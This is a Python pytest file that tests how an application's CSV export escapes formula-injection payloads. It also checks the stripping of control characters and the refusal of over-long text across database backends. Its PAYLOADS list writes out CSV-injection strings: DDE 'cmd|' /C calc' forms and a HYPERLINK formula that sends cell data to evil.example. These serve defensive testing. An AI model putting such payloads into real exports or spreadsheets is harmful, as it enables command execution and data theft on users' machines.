"""Hostile text: formula payloads in CSV exports, control characters and over-long text.

The same rules on SQLite and PostgreSQL (``any_db``); the CLI runs as a real process and its
CSV is read back with the csv module.
"""

from __future__ import annotations

import csv
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest

from workbench.db import Database, open_database
from workbench.errors import ValidationError
from workbench.models import Organisation
from workbench.services import members
from workbench.services.base import create_record, list_records
from workbench.text import clean_text, escape_formula, is_formula_like, strip_control_characters

#: OWASP's CSV-injection family, including the "-2+3+cmd|" form a "-digit" exemption let by.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", [*PAYLOADS, "＝1+1", "\n=1"])
def test_every_formula_payload_is_escaped(text: str) -> None:
    assert is_formula_like(text)
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["Alfa Srl", "-5", "+3.5", "-1,25", "12", "", "a=b", "'=1"])
def test_plain_text_and_plain_numbers_stay_as_they_are(text: str) -> None:
    assert escape_formula(text) == text


def test_control_characters_go_line_breaks_only_where_allowed() -> None:
    hostile = "Alfa\x00 \x07Srl\x1b[31m\x7f\x9b"
    assert strip_control_characters(hostile) == "Alfa Srl[31m"
    assert clean_text(hostile) == "Alfa Srl[31m"
    assert clean_text("Alfa\r\nSrl\tSpA") == "Alfa Srl SpA"
    assert strip_control_characters("one\r\ntwo\rthree\n\tfour\x00", multiline=True) == (
        "one\ntwo\nthree\n\tfour"
    )


def test_control_characters_are_stripped_before_storing(any_db: Database) -> None:
    org = members.create_organisation(
        any_db,
        {"name": "Beta\x00 Srl\x07", "city": "Monza\x1b", "notes": "riga 1\r\nriga 2\x00\tfine"},
        join_date=date(2020, 1, 1),
    )
    stored = list_records(any_db, Organisation, where=[Organisation.id == org.id])[0]
    assert (stored.name, stored.city) == ("Beta Srl", "Monza")
    assert stored.notes == "riga 1\nriga 2\tfine"  # a multi-line field keeps its lines


def test_text_longer_than_its_column_is_refused_on_every_backend(any_db: Database) -> None:
    with pytest.raises(ValidationError) as info:
        members.create_organisation(any_db, {"name": "A" * 400}, join_date=date(2020, 1, 1))
    assert info.value.field == "name"
    assert "400 characters where at most 300 fit" in str(info.value)
    with pytest.raises(ValidationError) as info:
        create_record(any_db, Organisation, {"name": "Gamma", "phone": "1" * 61})
    assert info.value.field == "phone"
    assert list_records(any_db, Organisation) == []
    # Exactly the limit fits.
    members.create_organisation(any_db, {"name": "A" * 300}, join_date=date(2020, 1, 1))


def test_history_csv_of_the_cli_escapes_every_payload(tmp_path: Path) -> None:
    db = open_database(tmp_path / "cluster.db")
    try:
        for number, payload in enumerate(PAYLOADS):
            members.create_organisation(
                db, {"name": f"{payload} {number}"}, join_date=date(2020, 1, 1)
            )
    finally:
        db.dispose()
    out = tmp_path / "history.csv"
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "workbench",
            "--db",
            str(tmp_path / "cluster.db"),
            "history",
            "--limit",
            "0",
            "--csv",
            str(out),
        ],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    with open(out, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = [value for row in rows for value in row.values() if value]
    assert not [c for c in cells if is_formula_like(c)]
    labels = {row["record_label"] for row in rows if row["table_name"] == "organisation"}
    # Stored text is one line (clean_text: "\t=1+1" became "=1+1"); every one is escaped.
    assert labels == {"'" + clean_text(f"{p} {n}") for n, p in enumerate(PAYLOADS)}
